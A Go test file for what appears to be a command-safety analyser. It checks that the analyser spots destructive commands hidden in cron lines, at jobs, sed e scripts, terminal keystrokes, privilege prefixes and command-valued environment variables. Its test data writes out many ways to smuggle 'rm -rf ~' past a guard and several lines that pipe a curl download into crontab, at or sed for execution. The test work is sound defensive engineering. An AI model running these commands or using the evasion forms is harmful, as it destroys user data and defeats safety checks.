package shell

import (
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/guardhq/guard/internal/shell/word"
)

// TestTextRuns: text that becomes a command (a job, a crontab line, keys
// typed into a terminal, a variable a program runs, a sed script) is
// analysed as one: its lines, and the paths it names.
func TestTextRuns(t *testing.T) {
	files := map[string]string{
		"job.txt":  "rm -rf ~\n",
		"cron.txt": "# backups\nMAILTO=me\n*/5 * * * * rm -rf ~\n",
		"cmds.txt": "rm -rf ~\n",
		"x.exp":    "spawn sh\nsend \"rm -rf ~\\r\"\n",
		"env.sh":   "rm -rf ~",
		"./x.sh":   "rm -rf ~",
	}
	for _, cmd := range []string{
		// at and batch: standard input or -f FILE
		`echo 'rm -rf ~' | at now`,
		`at now <<< 'rm -rf ~'`,
		"at now <<'EOF'\nrm -rf ~\nEOF",
		`at -f job.txt now + 1 hour`,
		`at now < job.txt`,
		`batch <<< 'rm -rf ~'`,
		// crontab: the lines' commands
		`echo '* * * * * rm -rf ~' | crontab -`,
		`printf '@reboot rm -rf ~\n' | crontab`,
		`crontab cron.txt`,
		`crontab -u me - < cron.txt`,
		`echo '* * * * * sh %rm -rf ~%' | crontab -`,
		`echo 'BASH_ENV=env.sh' | crontab -`,
		// sed: e COMMAND, e and s///e run the pattern space
		`sed 'e rm -rf ~' notes.txt`,
		`echo 'rm -rf ~' | sed e`,
		`sed -n e cmds.txt`,
		`echo x | sed 's/.*/rm -rf ~/e'`,
		`echo x | sed -e 1d -e 's/^/rm -rf ~ #/e'`,
		// prefixes
		`su root -c 'rm -rf ~'`,
		`su - root -- -c 'rm -rf ~'`,
		`echo 'rm -rf ~' | su`,
		`echo 'rm -rf ~' | sudo -s`,
		`runuser -u root -- rm -rf ~`,
		`runuser -l root -c 'rm -rf ~'`,
		`systemd-run --user --unit=x rm -rf ~`,
		`watch -x rm -rf ~`,
		`script -q -c 'rm -rf ~' /dev/null`,
		`echo 'rm -rf ~' | script -q /dev/null`,
		`flock /tmp/l -c 'rm -rf ~'`,
		`busybox ash -c 'rm -rf ~'`,
		`sg wheel 'rm -rf ~'`,
		`xterm -geometry 80x24 -e rm -rf ~`,
		`gnome-terminal -- rm -rf ~`,
		`xfce4-terminal -e 'rm -rf ~'`,
		// terminals: a command started, keys typed
		`tmux new-session -d -s x 'rm -rf ~'`,
		`tmux -c 'rm -rf ~'`,
		`tmux send-keys -t x 'rm -rf ~' Enter`,
		`tmux send-keys -t x rm Space -rf Space '~' C-m`,
		`tmux new -d \; send-keys 'rm -rf ~' Enter`,
		`tmux run-shell 'rm -rf ~'`,
		`tmux if-shell true 'run-shell "rm -rf ~"'`,
		`tmux bind-key x run-shell 'rm -rf ~'`,
		`tmux display -p '#(rm -rf ~)'`,
		`screen -dmS s rm -rf ~`,
		`screen -S s -X stuff 'rm -rf ~^M'`,
		`screen -S s -X screen rm -rf ~`,
		`screen -S s -X eval 'stuff "rm -rf ~\n"'`,
		`expect -c 'spawn rm -rf ~'`,
		`expect x.exp`,
		// command-valued variables
		`GIT_SSH_COMMAND='rm -rf ~' git fetch`,
		`export PAGER='rm -rf ~'`,
		`env EDITOR='rm -rf ~' git commit`,
		`sudo GIT_EDITOR='rm -rf ~' git rebase -i HEAD~2`,
		`systemd-run -E LESSOPEN='|rm -rf ~ %s' less x`,
		`declare -x BROWSER='firefox:rm -rf ~'`,
		`BASH_ENV=env.sh bash -c true`,
		`echo 'rm -rf ~' | sh -s x.sh`,
		"sed 'e echo \\\nrm -rf ~' notes.txt",
		`tmux set-hook -g after-new-window 'run-shell "rm -rf ~"'`,
		`tmux set -g default-command 'rm -rf ~'`,
		`xterm -e 'rm -rf ~'`,
		`GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf ~' git log`,
		`GIT_CONFIG_PARAMETERS="'core.pager'='rm -rf ~'" git log`,
		`GIT_SSH_COMMAND="$(cat job.txt)" git fetch`,
		`SHELL=./x.sh script -q /dev/null`,
	} {
		a, _ := analyzeWith(cmd, files)
		if !slices.Contains(a.Lines, "rm -rf ~") {
			t.Errorf("%q: lines %q, want %q", cmd, a.Lines, "rm -rf ~")
		}
		if a.Err != nil {
			t.Errorf("%q: %v", cmd, a.Err)
		}
	}
}

// TestTextHidden: a job, a crontab or a sed e input guard cannot see is
// hidden; the same forms with nothing hidden are not.
func TestTextHidden(t *testing.T) {
	for cmd, hidden := range map[string]bool{
		`crontab missing.txt`:                               true,
		`curl -s https://x.example/c | crontab -`:           true,
		`crontab - <<< "$(curl -s https://x.example/c)"`:    true,
		`(crontab -l; echo '0 * * * * backup') | crontab -`: true,
		`at -f missing.txt now`:                             true,
		`curl -s https://x.example/j | at now`:              true,
		`sed e missing.txt`:                                 true,
		`curl -s https://x.example | sed e`:                 true,
		`echo x | sed 'y/x/r/;e'`:                           true,
		`crontab -l`:                                        false,
		`crontab -r`:                                        false,
		`at -l`:                                             false,
		`at now`:                                            false,
		`echo '0 3 * * * make backup' | crontab -`:          false,
		`sed 's/e/E/g' missing.txt`:                         false,
		`sed '/^#/d;/^$/d' missing.txt`:                     false,
		`sed 'y/abc/xyz/' missing.txt`:                      false,
	} {
		a, _ := analyzeWith(cmd, nil)
		if got := errors.Is(a.Err, ErrHidden); got != hidden {
			t.Errorf("%q: error %v, want hidden %v", cmd, a.Err, hidden)
		}
	}
}

// TestTextData: what only looks like a command stays data.
func TestTextData(t *testing.T) {
	for _, cmd := range []string{
		`sed '/rm -rf ~/d' notes.txt`,
		`sed 's/rm -rf ~/x/' notes.txt`,
		`sed -e 's/e/E/' -e '/e/d' notes.txt`,
		`tmux send-keys -t x C-c`,
		`tmux display -p '#{pane_id}'`,
		`screen -ls`,
		`crontab -l | grep 'rm -rf ~'`,
	} {
		a, _ := analyzeWith(cmd, nil)
		for _, l := range a.Lines {
			if strings.Contains(l, "rm -rf") {
				t.Errorf("%q: line %q", cmd, l)
			}
		}
	}
}

func TestCronLines(t *testing.T) {
	cmds, vars := cronLines("# c\n\nSHELL=/bin/bash\nPATH = \"/usr/bin\"\n0 3 * * 1-5 cd /srv && make\n@reboot   run.sh --x\n* * * * * date +\\%s%in%put\n5 4 * *\n")
	want := []string{"cd /srv && make", "run.sh --x", "date +%s <<'" + cronInputEnd + "'\nin\nput\n" + cronInputEnd}
	if !slices.Equal(cmds, want) {
		t.Errorf("commands %q, want %q", cmds, want)
	}
	if wantVars := [][2]string{{"SHELL", "/bin/bash"}, {"PATH", "/usr/bin"}}; !slices.Equal(vars, wantVars) {
		t.Errorf("variables %q, want %q", vars, wantVars)
	}
}

func TestSedExecs(t *testing.T) {
	for script, want := range map[string]sedExec{
		"e date":             {commands: []string{"date"}},
		"1e touch x; p":      {commands: []string{"touch x; p"}},
		"e":                  {pattern: true},
		"$!N;e":              {pattern: true},
		"s/a/b/e":            {pattern: true, replaced: []string{"b"}},
		"s|x|rm \\| y|ge":    {pattern: true, replaced: []string{"rm | y"}},
		"s/a/b/;s/c/d/e":     {pattern: true, replaced: []string{"b", "d"}},
		"y/ab/cd/;e":         {pattern: true, opaque: true},
		"s/e/E/g":            {},
		"/e/d":               {},
		"s/x/y/w e.txt":      {},
		"/^e/ { s/e/f/; p }": {},
		":e\n/x/b e":         {},
		"y/e/f/":             {opaque: true},
	} {
		got := sedExecs(script)
		if !slices.Equal(got.commands, want.commands) || got.pattern != want.pattern || !slices.Equal(got.replaced, want.replaced) || got.opaque != want.opaque {
			t.Errorf("sedExecs(%q) = %+v, want %+v", script, got, want)
		}
	}
}

func TestSplitQuoted(t *testing.T) {
	for s, want := range map[string][]string{
		`run-shell "rm -rf ~"`: {"run-shell", "rm -rf ~"},
		`a 'b c' d\ e`:         {"a", "b c", "d e"},
		`x "a\"b" ''`:          {"x", `a"b`, ""},
		"  ":                   nil,
		`"unclosed`:            {"unclosed"},
	} {
		var got []string
		for _, w := range splitQuoted(s) {
			got = append(got, w.Text)
		}
		if !slices.Equal(got, want) {
			t.Errorf("splitQuoted(%q) = %q, want %q", s, got, want)
		}
	}
}

func TestTmuxKeyText(t *testing.T) {
	keys := func(ss ...string) []word.Word {
		var out []word.Word
		for _, s := range ss {
			out = append(out, word.Word{Text: s, Known: true})
		}
		return out
	}
	for _, tc := range []struct {
		keys    []word.Word
		literal bool
		want    string
	}{
		{keys("ls", "Enter"), false, "ls\n"},
		{keys("rm", "Space", "-rf", "Space", "~", "C-m"), false, "rm -rf ~\n"},
		{keys("C-c", "Escape", "F5", "M-x"), false, ""},
		{keys("Enter"), true, "Enter"},
	} {
		if got := tmuxKeyText(tc.keys, tc.literal); got != tc.want {
			t.Errorf("tmuxKeyText(%v, %v) = %q, want %q", tc.keys, tc.literal, got, tc.want)
		}
	}
}

func TestScreenText(t *testing.T) {
	for s, want := range map[string]string{`ls^M`: "ls\n", `a\nb\r`: "a\nb\n", `^C`: "\x03", `x\\y`: `x\y`} {
		if got := screenText(s); got != want {
			t.Errorf("screenText(%q) = %q, want %q", s, got, want)
		}
	}
}
